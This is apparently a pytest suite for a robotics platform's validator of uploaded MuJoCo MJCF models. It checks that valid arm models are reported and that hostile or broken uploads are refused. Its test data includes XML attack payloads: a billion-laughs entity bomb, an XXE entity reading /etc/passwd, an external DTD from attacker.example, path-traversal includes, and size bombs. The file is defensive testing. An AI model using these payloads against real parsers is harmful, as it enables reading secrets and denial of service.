"""MJCF validation: good models are reported, broken or hostile uploads refused precisely."""

import pytest

from robosoul.v1 import onboarding_pb2, robot_pb2
from robosoul_core.errors import InvalidArgument
from robosoul_simulation import validate
from robosoul_simulation.bodies import embodiment_for
from robosoul_simulation.validate import validate_model

ARM = """<mujoco model="arm">
  <compiler angle="radian"/>
  <worldbody>
    <geom name="floor" type="plane" size="2 2 0.1"/>
    <body name="l1" pos="0 0 0.1">
      <joint name="yaw" axis="0 0 1" range="-2 2"/>
      <geom type="cylinder" size="0.04 0.05"/>
      <body name="l2" pos="0 0 0.1">
        <joint name="pitch" axis="0 1 0" range="-1.5 1.5"/>
        <geom type="capsule" fromto="0 0 0 0 0 0.3" size="0.03"/>
        <site name="tool" pos="0 0 0.3"/>
      </body>
    </body>
    {extra}
  </worldbody>
  <actuator>
    <position joint="yaw" kp="100" kv="5"/>
    <position joint="pitch" kp="100" kv="5"/>
  </actuator>
</mujoco>"""

REGISTERED = [("yaw", robot_pb2.JOINT_TYPE_REVOLUTE, -2, 2), ("pitch", robot_pb2.JOINT_TYPE_REVOLUTE, -1.5, 1.5)]
CUBE_OBJ = b"v 0 0 0\nv 0.1 0 0\nv 0 0.1 0\nv 0 0 0.1\nf 1 2 3\nf 1 2 4\nf 1 3 4\nf 2 3 4\n"


def upload(mjcf: str, assets=None, joints=REGISTERED, ee_site: str = "") -> robot_pb2.Embodiment:
    return robot_pb2.Embodiment(
        joints=[
            robot_pb2.Joint(name=n, type=t, position_limits=robot_pb2.Range(min=lo, max=hi), max_velocity=1.0)
            for n, t, lo, hi in joints
        ],
        model=robot_pb2.SimulationModel(mjcf=mjcf, assets=assets or {}, end_effector_site=ee_site),
    )


def arm(extra: str = "", **kw) -> robot_pb2.Embodiment:
    return upload(ARM.replace("{extra}", extra), **kw)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<mujoco><custom><text name="t" data="&lol9;"/></custom></mujoco>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<mujoco model="&xxe;"/>"""
EXTERNAL_DTD = '<?xml version="1.0"?>\n<!DOCTYPE mujoco SYSTEM "http://attacker.example/evil.dtd">\n<mujoco/>'
MANY_BODIES = "<mujoco><worldbody>" + '<body><geom size="0.01"/></body>' * 10_000 + "</worldbody></mujoco>"
NESTED = "<mujoco><worldbody>" + "<body>" * 100 + "</body>" * 100 + "</worldbody></mujoco>"
EXPLODING = '<body name="spring" pos="1 0 0.5"><joint name="stiff" axis="0 1 0" stiffness="1e10" springref="1"/><geom type="box" size="0.01 0.01 0.01" mass="0.001"/></body>'
FAST = '<body name="bullet" pos="1 0 0.5"><freejoint/><geom type="sphere" size="0.01" contype="0" conaffinity="0"/></body>'
NO_ACTUATORS = ARM.replace("{extra}", "").split("<actuator>")[0] + "</mujoco>"
BALL_ONLY = """<mujoco><worldbody><body pos="0 0 1"><joint name="ball" type="ball"/><geom size="0.05"/></body></worldbody>
<actuator><motor joint="ball" gear="1 0 0"/></actuator></mujoco>"""

HOSTILE = [
    ("not XML", "this is not a robot", {}, r"MJCF: not well-formed XML at line 1, column 1 \(syntax error\)"),
    ("malformed XML", "<mujoco>\n  <worldbody>\n</mujoco>", {}, r"MJCF: not well-formed XML at line 3, column 3 \(mismatched tag\)"),
    ("empty", "   ", {}, "the MJCF is empty"),
    ("billion laughs", BILLION_LAUGHS, {}, r"declares the entity 'lol'; entities are refused \(entity expansion"),
    ("external entity", EXTERNAL_ENTITY, {}, r"declares an external entity 'xxe' \(file:///etc/passwd\)"),
    ("external DTD", EXTERNAL_DTD, {}, r"has a <!DOCTYPE> declaration; DTDs are refused"),
    ("URDF", '<robot name="r"><link name="a"/></robot>', {}, r"the root element is <robot>, not <mujoco> \(that is URDF"),
    ("include outside", '<mujoco><include file="../secrets.xml"/></mujoco>', {}, r"<include file=\"../secrets.xml\"> file: '../secrets.xml' leaves the upload"),
    ("absolute include", '<mujoco><include file="/etc/hosts"/></mujoco>', {}, r"'/etc/hosts' is an absolute path"),
    ("absolute mesh", '<mujoco><asset><mesh name="m" file="/etc/passwd"/></asset></mujoco>', {}, r"<mesh name=\"m\" file=\"/etc/passwd\"> file: '/etc/passwd' is an absolute path"),
    ("windows path", '<mujoco><asset><texture name="t" type="2d" file="C:\\secret.png"/></asset></mujoco>', {}, r"is an absolute path"),
    ("absolute meshdir", '<mujoco><compiler meshdir="/etc"/></mujoco>', {}, r"<compiler meshdir>: '/etc' is an absolute path"),
    ("missing asset", '<mujoco><asset><mesh name="m" file="link1.stl"/></asset></mujoco>', {}, r"'link1.stl' is not among the uploaded files \(none uploaded\)"),
    ("missing under meshdir", '<mujoco><compiler meshdir="meshes"/><asset><mesh file="a.obj"/></asset></mujoco>', {"a.obj": CUBE_OBJ}, r"'meshes/a.obj' is not among the uploaded files \(a.obj\)"),
    ("cube texture face", '<mujoco><asset><texture name="s" type="skybox" fileright="../r.png"/></asset></mujoco>', {}, r"fileright: '../r.png' leaves the upload"),
    ("asset name escapes", "<mujoco/>", {"../../etc/x.stl": b"x"}, r"asset name: '../../etc/x.stl' leaves the upload"),
    ("50 MB model", "<mujoco><!--" + "x" * (50 * 1024 * 1024) + "--></mujoco>", {}, r"the MJCF is 50.0 MiB; the limit is 4.0 MiB"),
    ("huge assets", "<mujoco/>", {"a.stl": b"\0" * (49 * 1024 * 1024)}, r"the upload is 49.0 MiB \(MJCF and assets\); the limit is 48.0 MiB"),
    ("10k bodies", MANY_BODIES, {}, r"MJCF: 10000 <body> elements; the limit is 500"),
    ("deep nesting", NESTED, {}, r"elements nested more than 64 deep"),
    ("plugin", '<mujoco><extension><plugin plugin="mujoco.elasticity.cable"/></extension></mujoco>', {}, r"<extension> is refused: plugins load native code"),
    ("replicate bomb", '<mujoco><worldbody><replicate count="100000"><geom size=".1"/></replicate></worldbody></mujoco>', {}, r"count must be a whole number up to 1000"),
    ("included file with entities", '<mujoco><include file="sub.xml"/></mujoco>', {"sub.xml": BILLION_LAUGHS.encode()}, r"sub.xml: declares the entity 'lol'"),
    ("include cycle", '<mujoco><include file="a.xml"/></mujoco>', {"a.xml": b'<mujoco><include file="a.xml"/></mujoco>'}, r"'a.xml' is included twice \(or includes itself\)"),
    ("compiler error", '<mujoco><worldbody><geom type="box" size="-1"/></worldbody></mujoco>', {}, r"MuJoCo cannot (compile|parse) the MJCF: .*size"),
    ("unknown element", "<mujoco><worldbody><robotbody/></worldbody></mujoco>", {}, r"MuJoCo cannot compile the MJCF: XML Error: Schema violation: unrecognized element"),
    ("too much memory", ARM.replace("{extra}", "").replace("<compiler", '<size memory="8G"/><compiler'), {}, r"needs more than the 2048.0 MiB of memory validation allows"),
    ("no actuators", NO_ACTUATORS, {}, r"the model has no actuators \(2 joints\); RoboSoul drives an arm through one actuator per joint"),
    ("no serial chain", BALL_ONLY, {}, r"no actuated serial chain: none of the 1 actuators drives a hinge or slide joint"),
    ("exploding spring", ARM.replace("{extra}", EXPLODING), {}, r"the model is numerically unstable: NaN/infinite or rejected accelerations after 0.00\d s"),
    ("flying body", ARM.replace("{extra}", FAST).replace('<compiler angle="radian"/>', '<compiler angle="radian"/><option gravity="0 0 -1e6"/>'), {}, r"the model explodes: body 'bullet' reached .* m/s"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "mjcf", "assets", "message"), HOSTILE, ids=[c[0] for c in HOSTILE])
def test_broken_or_hostile_uploads_are_refused_with_a_precise_message(case, mjcf, assets, message):
    with pytest.raises(InvalidArgument, match=message):
        validate_model(upload(mjcf, assets=assets, joints=[]))


REGISTRY_MISMATCH = [
    ("unknown joint names", REGISTERED + [("elbow", robot_pb2.JOINT_TYPE_REVOLUTE, -1, 1), ("wrist", robot_pb2.JOINT_TYPE_REVOLUTE, -1, 1)], "", r"registered joints \['elbow', 'wrist'\] are not in the MJCF \(its joints: \['yaw', 'pitch'\]\)"),
    ("type", [("yaw", robot_pb2.JOINT_TYPE_PRISMATIC, -2, 2), REGISTERED[1]], "", r"joint 'yaw' is registered PRISMATIC but is a hinge joint in the MJCF"),
    ("limits", [REGISTERED[0], ("pitch", robot_pb2.JOINT_TYPE_REVOLUTE, -1, 1)], "", r"joint 'pitch' limits differ: registered \[-1, 1\], MJCF range \[-1.5, 1.5\]"),
    ("gripper", [REGISTERED[0], ("pitch", robot_pb2.JOINT_TYPE_GRIPPER, -1.5, 1.5)], "", r"joint 'pitch' is registered GRIPPER but the MJCF does not make it a gripper"),
    ("end effector", REGISTERED, "flange", r"end_effector_site 'flange' is not a site in the MJCF \(its sites: \['tool'\]\)"),
]  # fmt: skip


@pytest.mark.parametrize(("case", "joints", "site", "message"), REGISTRY_MISMATCH, ids=[c[0] for c in REGISTRY_MISMATCH])
def test_the_mjcf_must_match_the_registered_embodiment(case, joints, site, message):
    with pytest.raises(InvalidArgument, match=r"the MJCF does not match the registered embodiment: .*" + message + ".*re-register"):
        validate_model(arm(joints=joints, ee_site=site))


def test_every_mismatch_is_listed_at_once():
    joints = [("yaw", robot_pb2.JOINT_TYPE_PRISMATIC, -2, 2), ("pitch", robot_pb2.JOINT_TYPE_REVOLUTE, 0, 1), ("knee", 1, 0, 1)]
    with pytest.raises(InvalidArgument) as exc:
        validate_model(arm(joints=joints))
    assert "['knee']" in exc.value.message and "'yaw' is registered PRISMATIC" in exc.value.message and "'pitch' limits" in exc.value.message


def test_a_good_model_is_reported_with_its_chain_and_facts():
    report = validate_model(arm(ee_site="tool"))
    assert isinstance(report, onboarding_pb2.ModelReport)
    assert [list(c.joints) for c in report.chains] == [["yaw", "pitch"]]
    assert report.chains[0].end_effector_site == "tool" and report.chains[0].gripper_joint == ""
    assert report.actuators == 2 and report.timestep_s == pytest.approx(0.002)
    assert report.total_mass_kg > 0
    assert any("no gravity compensation" in w for w in report.warnings)


@pytest.mark.parametrize("tag", ["rs-arm4", "gen-s14-6dof-grip", "gym-pusher", "gym-reacher"])
def test_registry_bodies_validate_against_their_own_embodiment(tag):
    e = embodiment_for(tag)
    report = validate_model(e)
    (chain,) = report.chains
    names = [j.name for j in e.joints]
    grip = [j.name for j in e.joints if j.type == robot_pb2.JOINT_TYPE_GRIPPER]
    assert list(chain.joints) == [n for n in names if n not in grip]
    assert chain.gripper_joint == (grip[0] if grip else "")
    assert chain.end_effector_site == e.model.end_effector_site


TWO_ARMS = """<mujoco>
  <compiler angle="radian"/>
  <worldbody>
    <geom type="plane" size="2 2 0.1"/>
    <body name="torso" pos="0 0 0.5">
      <geom type="box" size="0.1 0.2 0.2"/>
      {left}
      {right}
    </body>
  </worldbody>
  <equality><joint joint1="right_finger_b" joint2="right_finger_a"/></equality>
  <actuator>
    <position joint="left_shoulder" kp="50"/><position joint="left_elbow" kp="50"/>
    <position joint="right_shoulder" kp="50"/><position joint="right_elbow" kp="50"/>
    <position joint="right_finger_a" kp="100"/>
  </actuator>
</mujoco>"""
ARM_OF = """<body name="{s}_upper" pos="0 {y} 0.1">
        <joint name="{s}_shoulder" axis="0 1 0" range="-2 2"/>
        <geom type="capsule" fromto="0 0 0 0.3 0 0" size="0.03"/>
        <body name="{s}_lower" pos="0.3 0 0">
          <joint name="{s}_elbow" axis="0 1 0" range="-2 2"/>
          <geom type="capsule" fromto="0 0 0 0.25 0 0" size="0.025"/>
          {hand}
        </body>
      </body>"""
HAND = """<body name="right_palm" pos="0.25 0 0">
            <site name="right_tcp" pos="0.05 0 0"/>
            <geom type="box" size="0.01 0.04 0.01"/>
            <body name="right_fa"><joint name="right_finger_a" type="slide" axis="0 1 0" range="0 0.03"/><geom type="box" size="0.01 0.005 0.03" pos="0.03 0 0"/></body>
            <body name="right_fb"><joint name="right_finger_b" type="slide" axis="0 -1 0" range="0 0.03"/><geom type="box" size="0.01 0.005 0.03" pos="0.03 0 0"/></body>
          </body>"""


def test_two_arms_and_a_gripper_are_found_and_reported():
    mjcf = TWO_ARMS.format(
        left=ARM_OF.format(s="left", y=0.25, hand='<site name="left_ee" pos="0.25 0 0"/>'),
        right=ARM_OF.format(s="right", y=-0.25, hand=HAND),
    )
    report = validate_model(upload(mjcf, joints=[]))
    chains = {c.joints[0]: c for c in report.chains}
    assert [list(c.joints) for c in report.chains] == [["left_shoulder", "left_elbow"], ["right_shoulder", "right_elbow"]]
    assert chains["left_shoulder"].end_effector_site == "left_ee" and chains["left_shoulder"].gripper_joint == ""
    assert chains["right_shoulder"].end_effector_site == "right_tcp" and chains["right_shoulder"].gripper_joint == "right_finger_a"
    assert any("2 kinematic chains" in w for w in report.warnings)


def test_uploaded_meshes_and_includes_load_from_memory_only(tmp_path, monkeypatch):
    # A file with the same name on disk (in the working directory) must not be what loads.
    monkeypatch.chdir(tmp_path)
    (tmp_path / "parts.xml").write_text("<mujoco><worldbody><body name='from_disk'/></worldbody></mujoco>")
    parts = b'<mujoco><asset><mesh name="cube" file="cube.obj"/></asset></mujoco>'
    mjcf = ARM.replace("{extra}", '<body name="prop" pos="0.5 0 0.05"><geom type="mesh" mesh="cube"/></body>').replace(
        "<worldbody>", '<include file="parts.xml"/>\n  <worldbody>'
    ).replace('<compiler angle="radian"/>', '<compiler angle="radian" meshdir="meshes"/>')
    report = validate_model(upload(mjcf, assets={"parts.xml": parts, "meshes/cube.obj": CUBE_OBJ}))
    assert [list(c.joints) for c in report.chains] == [["yaw", "pitch"]]


def test_validation_that_takes_too_long_is_stopped():
    with pytest.raises(InvalidArgument, match=r"validation did not finish in 0.001 s .* simplify it"):
        validate_model(arm(), timeout_s=0.001)


def test_a_model_is_required():
    with pytest.raises(InvalidArgument, match="the embodiment has no model.mjcf"):
        validate_model(robot_pb2.Embodiment())


def test_limits_are_module_constants_an_operator_can_read():
    assert validate.MAX_MJCF_BYTES < validate.MAX_UPLOAD_BYTES
    assert validate.MAX_BODIES < 10_000 and validate.TIMEOUT_S > 0 and validate.MEMORY_LIMIT_BYTES > 0
